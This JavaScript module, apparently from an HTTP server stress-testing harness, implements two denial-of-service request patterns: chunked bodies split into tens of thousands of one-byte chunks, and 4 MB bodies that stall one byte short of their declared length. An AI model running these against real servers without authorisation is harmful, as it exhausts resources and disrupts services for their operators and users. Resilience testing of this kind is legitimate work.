/** Attacks with bodies that are never complete. */
import { FILLER, request } from '../wire.mjs';

/** Bytes that are read without a reservation of memory. */
const PIECES = 64_000;
const ONE_BYTE_CHUNKS = Buffer.from('1\r\nx\r\n'.repeat(PIECES));
/** Cost of a chunk, in bytes of a plain body. */
const PER_PIECE = 60;

/** Bodies in chunks of one byte. */
export function pieces(run) {
  return run.repeat(60, async () => {
    await run.pace(PIECES * PER_PIECE);
    const target = run.nextTarget();
    await run.ask(
      target,
      request(target, { headers: ['Transfer-Encoding: chunked'], body: [ONE_BYTE_CHUNKS] }),
    );
  });
}

/** Bodies of 4 MB that stop before their last byte. */
export function stalled(run) {
  return run.repeat(60, async () => {
    await run.pace(FILLER.length);
    const target = run.nextTarget();
    await run.ask(target, request(target, { body: [FILLER], length: FILLER.length + 1 }));
  });
}
